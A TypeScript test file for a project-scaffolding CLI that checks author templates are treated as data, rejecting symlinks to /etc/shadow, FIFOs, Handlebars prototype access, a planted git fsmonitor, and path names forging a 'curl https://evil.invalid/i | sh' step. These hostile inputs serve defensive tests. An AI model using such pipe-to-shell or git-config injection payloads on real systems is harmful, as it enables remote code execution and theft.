/**
 * Issue 13, inputs: an author's templates folder is data (no links followed,
 * regular files only, limits, binary files byte for byte), templates cannot
 * print or reach prototypes, printed paths cannot forge lines or follow CDPATH,
 * and the library refuses arguments of the wrong type. Each attack runs through
 * the built CLI (or the real API, plop and shells) on real files and FIFOs.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import Handlebars from 'handlebars';
import nodePlop from 'node-plop';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { compileOptions, writePrecompiledTemplates } from '../scripts/precompile-templates.js';
import { OptionError } from '../generators/core/arguments.js';
import { validateAnswers } from '../generators/core/answers.js';
import type { BuiltInTemplate } from '../generators/core/built-in-templates.js';
import { planProject } from '../generators/core/plan.js';
import { precompiledTable, renderPlan, templateReader, templatesDir } from '../generators/core/render.js';
import { AnswerError, generate, scaffold, UsageError } from '../generators/index.js';
import { repoRoot, runCli, scratch } from './support/cli.js';
import { missingTools, requireTools } from './support/tools.js';

const tmp = scratch('cf-inputs-');
afterAll(tmp.cleanup);
let counter = 0;
const fresh = (name = 'p') => join(tmp.dir, `${name}${(counter += 1)}`);

/** A templates folder holding `files` (path → text or bytes). */
function overlay(files: Record<string, string | Buffer> = {}): string {
  const dir = fresh('overlay');
  mkdirSync(dir, { recursive: true });
  for (const [path, contents] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), contents);
  }
  return dir;
}

/** A refusal as the brief has it: exit 1, one line on stderr starting with the tool's name, no stack, nothing written. */
function expectOneLineRefusal(result: { exitCode?: number; stderr: string; stdout: string }, pattern: RegExp, directory?: string): void {
  expect(result.exitCode, result.stderr).toBe(1);
  const lines = result.stderr.trimEnd().split('\n');
  expect(lines, result.stderr).toHaveLength(1);
  expect(lines[0]).toMatch(/^create-freestanding: /);
  expect(lines[0]).toMatch(pattern);
  expect(result.stderr).not.toMatch(/\n\s+at /);
  if (directory) expect(existsSync(directory), `${directory} was written`).toBe(false);
}

// Old code hangs on a FIFO or /dev/zero: a bounded run, killed after this.
const bounded = { timeout: 20_000 };

describe('a templates folder is data', () => {
  it('refuses a symbolic link out of the folder (/etc/shadow, /proc/self/environ) in one line naming it, copying nothing', async () => {
    for (const [name, target] of [['shadow.txt', '/etc/shadow'], ['env.txt', '/proc/self/environ']]) {
      const templates = overlay();
      symlinkSync(target, join(templates, name));
      const directory = fresh();
      const result = await runCli([directory, '-y', '-t', 'linux', '--templates', templates], { env: { SECRET_TOKEN: 'hunter2' }, ...bounded });
      expectOneLineRefusal(result, new RegExp(`${name.replace('.', '\\.')} is a symbolic link; templates are read without following links`), directory);
      expect(result.stdout + result.stderr).not.toContain('hunter2');
    }
  });

  it('refuses a link inside the folder too (it is resolved again at every open)', async () => {
    const templates = overlay({ 'NOTES.md': 'notes\n' });
    symlinkSync('NOTES.md', join(templates, 'COPY.md'));
    const directory = fresh();
    expectOneLineRefusal(await runCli([directory, '-y', '--templates', templates], bounded), /COPY\.md is a symbolic link/, directory);
  });

  it('does not read /dev/zero through a link, and ends at once', async () => {
    const templates = overlay();
    symlinkSync('/dev/zero', join(templates, 'x'));
    const directory = fresh();
    const started = Date.now();
    const result = await runCli([directory, '-y', '--templates', templates], bounded);
    expect(result.timedOut, 'ran until killed').toBe(false);
    expectOneLineRefusal(result, /\/x is a symbolic link/, directory);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  it('refuses a FIFO before opening it, also with --dry-run, instead of hanging', async () => {
    const templates = overlay({ 'README.md.hbs': '# {{name}}\n' });
    execFileSync('mkfifo', [join(templates, 'pipe.txt')]);
    for (const extra of [[], ['--dry-run']]) {
      const directory = fresh();
      const result = await runCli([directory, '-y', '--templates', templates, ...extra], bounded);
      expect(result.timedOut, 'hung on the FIFO').toBe(false);
      expectOneLineRefusal(result, /pipe\.txt is not a regular file \(a FIFO, socket or device\); remove it from the templates folder/, directory);
    }
  });

  it('refuses a 600 MB (sparse) file in one line, not exit 70 or out of memory', async () => {
    const templates = overlay({ 'big.bin': '' });
    truncateSync(join(templates, 'big.bin'), 600 * 1024 * 1024);
    const directory = fresh();
    const result = await runCli([directory, '-y', '--templates', templates], bounded);
    expectOneLineRefusal(result, /big\.bin is larger than 1048576 bytes/, directory);
  });

  it('refuses a folder of more files than any course needs', async () => {
    const files: Record<string, string> = {};
    for (let index = 0; index < 2100; index += 1) files[`many/f${index}.txt`] = 'x';
    const templates = overlay(files);
    const directory = fresh();
    expectOneLineRefusal(await runCli([directory, '-y', '--templates', templates], bounded), /holds more than 2000 files and folders/, directory);
  });

  // Each hides its nesting from a naive count: an escaped or string-held `{{/if}}`, a comment, a chain, subexpressions.
  const deep = 20_000;
  it.each([
    ['nested {{#if}}', `${'{{#if name}}'.repeat(deep)}x${'{{/if}}'.repeat(deep)}`, /blocks are nested more than 100 deep/],
    ['an {{else if}} chain', `{{#if name}}${'{{else if name}}'.repeat(deep)}{{/if}}`, /blocks are nested more than 100 deep/],
    ['escaped closes', `${'{{#if name}}\\{{/if}}'.repeat(deep)}${'{{/if}}'.repeat(deep)}`, /blocks are nested more than 100 deep/],
    ['closes in comments', `${'{{#if name}}{{!-- {{/if}} --}}'.repeat(deep)}${'{{/if}}'.repeat(deep)}`, /blocks are nested more than 100 deep/],
    ['closes in strings', `${'{{#if name}}{{name "}}{{/if}}"}}'.repeat(deep)}${'{{/if}}'.repeat(deep)}`, /a string or \[segment\] in a \{\{…\}\} tag holds "\}\}"/],
    ['closes in raw blocks', `${'{{#if name}}{{{{raw}}}}{{/if}}{{{{/raw}}}}'.repeat(deep)}${'{{/if}}'.repeat(deep)}`, /raw blocks \(\{\{\{\{…\}\}\}\}\) are not supported/],
    ['nested subexpressions', `{{name ${'(name '.repeat(deep)}${')'.repeat(deep)}}}`, /blocks are nested more than 100 deep/],
  ])('fails at once, in one line, on 20,000 %s', async (_, text, pattern) => {
    const templates = overlay({ 'deep.md.hbs': text });
    const directory = fresh();
    const started = Date.now();
    const result = await runCli([directory, '-y', '--templates', templates], { timeout: 15_000 });
    expect(result.timedOut, 'compiled for minutes').toBe(false);
    expectOneLineRefusal(result, new RegExp(`cannot render .*deep\\.md\\.hbs: ${pattern.source}`), directory);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('refuses a template of more {{…}} tags than its compiler takes in a second', async () => {
    const templates = overlay({ 'wide.md.hbs': '{{name}} '.repeat(100_000) });
    const directory = fresh();
    const started = Date.now();
    const result = await runCli([directory, '-y', '--templates', templates], { timeout: 15_000 });
    expectOneLineRefusal(result, /wide\.md\.hbs: more than 5000 \{\{…\}\} tags/, directory);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('copies a binary file (a PNG) byte for byte, and refuses a .hbs template that is not UTF-8', async () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0xff, 0xfe, 0x80, 0xc3, 0x28]);
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('text with a BOM\n')]);
    const templates = overlay({ 'assets/logo.png': png, 'assets/bom.txt': bom });
    const directory = fresh();
    const result = await runCli([directory, '-y', '-t', 'linux', '--templates', templates], bounded);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(readFileSync(join(directory, 'assets/logo.png')).equals(png)).toBe(true);
    expect(readFileSync(join(directory, 'assets/bom.txt')).equals(bom)).toBe(true);
    const dry = await runCli([fresh(), '-y', '-t', 'linux', '--templates', templates, '--dry-run', '--json'], bounded);
    expect(JSON.parse(dry.stdout).files).toContainEqual({ path: 'assets/logo.png', size: png.length });

    const broken = overlay({ 'bad.md.hbs': Buffer.from([0x23, 0x20, 0xff, 0x7b, 0x7b, 0x6e, 0x61, 0x6d, 0x65, 0x7d, 0x7d]) });
    const other = fresh();
    expectOneLineRefusal(await runCli([other, '-y', '--templates', broken], bounded), /bad\.md\.hbs is not UTF-8 text, which a \.hbs template must be/, other);
  });

  it("leaves an overlay's .git alone: a fresh clone's .git/config is not replaced (no fsmonitor planted)", async () => {
    const templates = overlay({ '.git/config': '[core]\n\tfsmonitor = touch PWNED\n', '.Git/hooks/post-checkout': 'touch PWNED\n', 'NOTES.md': 'notes\n' });
    const directory = fresh();
    execFileSync('git', ['init', '-q', directory]);
    const config = readFileSync(join(directory, '.git', 'config'), 'utf8');
    const result = await runCli([directory, '-y', '-t', 'linux', '--templates', templates], bounded);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(readFileSync(join(directory, '.git', 'config'), 'utf8')).toBe(config);
    expect(existsSync(join(directory, '.Git'))).toBe(false);
    expect(readFileSync(join(directory, 'NOTES.md'), 'utf8')).toBe('notes\n');
  });

  it('refuses an empty --templates (the current directory, with its .env) and a path that is not a folder', async () => {
    const cwd = fresh('cwd');
    mkdirSync(cwd);
    writeFileSync(join(cwd, '.env'), 'API_KEY=secret\n');
    const result = await runCli(['p', '-y', '--templates', ''], { cwd, ...bounded });
    expectOneLineRefusal(result, /the templates folder cannot be an empty path; name a folder, or leave it out/, join(cwd, 'p'));
    writeFileSync(join(cwd, 'file.txt'), 'x');
    execFileSync('mkfifo', [join(cwd, 'fifo')]);
    for (const path of ['file.txt', 'fifo']) {
      const refused = await runCli(['q', '-y', '--templates', path], { cwd, ...bounded });
      expect(refused.timedOut).toBe(false);
      expectOneLineRefusal(refused, /does not exist or is not a folder/, join(cwd, 'q'));
    }
  });
});

describe('strict Handlebars refuses helpers that print or reach prototypes', () => {
  const attacks = ['{{log "x"}}', '{{toString}}', '{{constructor}}', '{{__proto__}}', '{{lookup this "constructor"}}', '{{#each commands.setup}}{{@constructor}}{{/each}}'];

  it.each(attacks)('%s in an overlay: --json stdout is one JSON error, the render error names the file', async (text) => {
    const templates = overlay({ 'NOTES.md.hbs': `# notes\n${text}\n` });
    const directory = fresh();
    const result = await runCli([directory, '-y', '-t', 'linux', '--templates', templates, '--json'], bounded);
    expect(result.exitCode, result.stdout).toBe(1);
    const document = JSON.parse(result.stdout);
    expect(document).toMatchObject({ ok: false, exitCode: 1 });
    expect(document.error).toMatch(new RegExp(`^cannot render ${join(templates, 'NOTES.md.hbs').replaceAll('/', '\\/')}: `));
    expect(document.error).toMatch(/the log helper prints|is not defined \(line/);
    expect(result.stderr).toBe('');
    expect(existsSync(directory)).toBe(false);
  });

  describe('in precompiled (built-in) templates', () => {
    let table: Record<string, BuiltInTemplate>;
    beforeAll(() => {
      const dir = join(tmp.dir, 'precompiled');
      table = precompiledTable(writePrecompiledTemplates(templatesDir(), dir), dir);
    });

    it.each(attacks.filter((text) => !text.includes('@constructor')))('%s fails with the render error, printing nothing', (text) => {
      // eslint-disable-next-line no-new-func
      const spec = new Function(`return ${Handlebars.precompile(text, compileOptions)}`)() as object;
      const reader = templateReader(undefined, { ...table, 'project/README.md.hbs': { spec } });
      const plan = planProject(validateAnswers({ directory: join(tmp.dir, 'pre'), name: 'pre', target: 'linux' }), { inWorkspace: false });
      const printed = [vi.spyOn(console, 'log'), vi.spyOn(console, 'error'), vi.spyOn(console, 'warn'), vi.spyOn(console, 'info')];
      try {
        expect(() => renderPlan(plan, reader)).toThrow(/^cannot render templates\/project\/README\.md\.hbs: /);
        for (const spy of printed) expect(spy).not.toHaveBeenCalled();
      } finally {
        for (const spy of printed) spy.mockRestore();
      }
    });

    it('are refused at build time when a path reaches a prototype ({{@constructor}} inside {{#each}})', () => {
      const dir = fresh('templates');
      mkdirSync(join(dir, 'project'), { recursive: true });
      writeFileSync(join(dir, 'project', 'x.hbs'), '{{#each a}}{{@constructor}}{{/each}}');
      expect(() => writePrecompiledTemplates(dir, join(dir, 'out'))).toThrow(/templates\/project\/x\.hbs: "constructor" reaches a prototype/);
    });
  });
});

describe('printed paths cannot forge output', () => {
  const forged = 'x\nNext steps:\n  curl https://evil.invalid/i | sh\n';

  it('a directory named with a newline prints one Created line and one Next steps block', async () => {
    const cwd = fresh('cwd');
    mkdirSync(join(cwd, forged), { recursive: true });
    const result = await runCli([`${forged}/p`, '-y', '-t', 'linux'], { cwd, ...bounded });
    expect(result.exitCode, result.stderr).toBe(0);
    const lines = result.stdout.split('\n');
    expect(lines.filter((line) => line.trimStart().startsWith('Next steps'))).toEqual(['Next steps:']);
    expect(lines.some((line) => line.trimStart().startsWith('curl'))).toBe(false);
    expect(lines[0]).toBe(`Created p in ${JSON.stringify(`${forged}/p`)}: linux, hello, edition 2024 (9 files).`);
  });

  it('ESC, DEL and C1 in a name are shown escaped in the Created line, dry-run listing and errors', async () => {
    const cwd = fresh('cwd');
    mkdirSync(cwd);
    const name = 'q\u001b]0;pwned\u0007\u007f\u009b2J';
    const created = await runCli([name, '-y', '-t', 'linux', '--name', 'q'], { cwd, ...bounded });
    expect(created.exitCode, created.stderr).toBe(0);
    expect(created.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(created.stdout).toContain('"q\\u001b]0;pwned\\u0007\\u007f\\u009b2J"');

    // An author's file named with a newline and ESC, in the dry-run listing.
    const templates = overlay({ 'a\nb\u001b[2J.txt': 'x' });
    const dry = await runCli(['d', '-y', '-t', 'linux', '--dry-run', '--templates', templates], { cwd, ...bounded });
    expect(dry.exitCode, dry.stderr).toBe(0);
    expect(dry.stdout).toContain('  "a\\nb\\u001b[2J.txt"  (1 bytes)');
    expect(dry.stdout).not.toMatch(/\u001b/);

    // Through showPath: a file where a folder belongs.
    writeFileSync(join(cwd, 'f\u001b[2J\nline'), 'x');
    const blocked = await runCli(['f\u001b[2J\nline/p', '-y', '-t', 'linux'], { cwd, ...bounded });
    expectOneLineRefusal(blocked, /is a file, so .* cannot be created inside it/);
    expect(blocked.stderr).not.toMatch(/\u001b/);

    // A refusal worded outside showPath (not empty) stays one line too.
    mkdirSync(join(cwd, 'n\nNext steps: curl x | sh'));
    writeFileSync(join(cwd, 'n\nNext steps: curl x | sh', 'mine.txt'), 'mine');
    expectOneLineRefusal(await runCli(['n\nNext steps: curl x | sh', '-y', '-t', 'linux', '--name', 'n'], { cwd, ...bounded }), /is not empty/);
  });

  it('the plop pack shows the directory escaped', async () => {
    const monorepo = fresh('mono');
    mkdirSync(join(monorepo, 'node_modules'), { recursive: true });
    symlinkSync(repoRoot, join(monorepo, 'node_modules', 'create-freestanding'), 'dir');
    writeFileSync(join(monorepo, 'plopfile.js'), "export default async function (plop) {\n  await plop.load('create-freestanding');\n}\n");
    writeFileSync(join(monorepo, 'package.json'), '{ "type": "module", "private": true }\n');
    const plop = await nodePlop(join(monorepo, 'plopfile.js'), { destBasePath: monorepo, force: false });
    const run = await plop.getGenerator('freestanding').runActions({ directory: `${forged}k`, name: 'k', target: 'linux', template: 'hello', edition: '2024' });
    expect(run.failures).toEqual([]);
    const printed = run.changes.map((change: { path: string }) => change.path).join('\n');
    expect(printed).not.toMatch(/^\s*curl/m);
    expect(printed).toContain('\\nNext steps:\\n  curl');
  });

  it('prints no cd line for a write into the current directory', async () => {
    const cwd = fresh('here');
    mkdirSync(cwd);
    const result = await runCli(['.', '-y', '-t', 'linux'], { cwd, ...bounded });
    expect(result.exitCode, result.stderr).toBe(0);
    const steps = result.stdout.slice(result.stdout.indexOf('Next steps:')).split('\n').slice(1).map((line) => line.trim()).filter(Boolean);
    expect(steps).toEqual(['cargo run --release', 'cargo test']);
  });

  // A CDPATH with the same name elsewhere: `cd my-os` lands there in bash, fish, and zsh with
  // POSIX_CD set (without it zsh looks in the current directory first).
  for (const shell of [
    { name: 'bash', args: ['--norc', '--noprofile', '-i'], prelude: '' },
    { name: 'zsh', args: ['-f', '-i'], prelude: 'setopt posix_cd\n' },
    { name: 'fish', args: ['--no-config', '-i'], prelude: '' },
  ]) {
    it(`the cd line lands in the project in ${shell.name} whatever CDPATH says`, async ({ skip }) => {
      if (!requireTools(missingTools([{ command: shell.name, args: ['--version'], install: 'scripts/setup-toolchain.sh (apt-get install zsh fish)' }]), skip)) return;
      const cwd = fresh(`cdpath-${shell.name}`);
      const decoy = fresh('decoy');
      mkdirSync(cwd);
      mkdirSync(join(decoy, 'my-os'), { recursive: true });
      const result = await runCli(['my-os', '-y', '-t', 'linux', '--json'], { cwd, ...bounded });
      expect(result.exitCode, result.stderr).toBe(0);
      const cd = (JSON.parse(result.stdout).nextSteps as string[])[0];
      const pasted = join(cwd, 'pasted');
      const landed = join(cwd, 'landed');
      writeFileSync(pasted, `${shell.prelude}${cd}\nprintf '%s' "$PWD" > "$LANDED"\nexit\n`);
      const run = await execa('sh', ['-c', 'exec "$0" "$@" < "$PASTED"', shell.name, ...shell.args], {
        cwd, reject: false, timeout: 20_000,
        env: { HOME: cwd, PATH: process.env.PATH, TERM: 'dumb', CDPATH: decoy, LANDED: landed, PASTED: pasted }, extendEnv: false,
      });
      expect(realpathSync(readFileSync(landed, 'utf8')), `${cd}\n${run.stderr}`).toBe(realpathSync(join(cwd, 'my-os')));
    });
  }
});

describe('the library refuses arguments of the wrong type, naming the field', () => {
  async function refusal(promise: Promise<unknown>): Promise<Error> {
    try {
      await promise;
    } catch (error) {
      return error as Error;
    }
    throw new Error('not refused');
  }

  it("{ force: 'no' } does not force: a typed error, the directory untouched", async () => {
    const directory = fresh();
    mkdirSync(directory);
    writeFileSync(join(directory, 'notes.txt'), 'mine');
    const error = await refusal(scaffold({ directory, name: 'demo' }, { force: 'no' as never }));
    expect(error).toBeInstanceOf(OptionError);
    expect(error).toBeInstanceOf(UsageError);
    expect(error).toMatchObject({ option: 'force', message: 'option force must be a boolean (got "no")' });
    expect(readdirSync(directory)).toEqual(['notes.txt']);
  });

  it("{ dryRun: 'false' } does not dry-run and does not write either", async () => {
    const directory = fresh();
    const error = await refusal(scaffold({ directory, name: 'demo' }, { dryRun: 'false' as never }));
    expect(error).toMatchObject({ option: 'dryRun', message: 'option dryRun must be a boolean (got "false")' });
    expect(existsSync(directory)).toBe(false);
  });

  it('{ directory: 5 } is an AnswerError naming directory, not "directory.trim is not a function"', async () => {
    const error = await refusal(scaffold({ directory: 5 as never }));
    expect(error).toBeInstanceOf(AnswerError);
    expect(error).toMatchObject({ field: 'directory', message: 'directory must be a string (got number 5)' });
    expect(() => generate({ directory: 5 as never })).toThrow(AnswerError);
    expect(() => generate({ directory: 'x', target: ['linux'] as never })).toThrow(/^target must be a string \(got an array\)$/);
  });

  it('{ templates: 5 }, { templates: "" } and unknown names are refused', async () => {
    const directory = fresh();
    expect(await refusal(scaffold({ directory }, { templates: 5 as never }))).toMatchObject({ option: 'templates', message: 'option templates must be a string (got number 5)' });
    expect(await refusal(scaffold({ directory }, { templates: '' }))).toMatchObject({ option: 'templates' });
    expect(await refusal(scaffold({ directory }, { forse: true } as never))).toMatchObject({ option: 'forse', message: expect.stringMatching(/^unknown option "forse"; the options are templates, force, dryRun, startedAt$/) });
    expect(await refusal(scaffold({ directory, targt: 'linux' } as never))).toMatchObject({ option: 'targt' });
    expect(() => generate({ directory }, { templates: '' })).toThrow(OptionError);
    expect(() => generate({ directory }, { dryRun: true } as never)).toThrow(/unknown option "dryRun"/);
    expect(existsSync(directory)).toBe(false);
  });
});
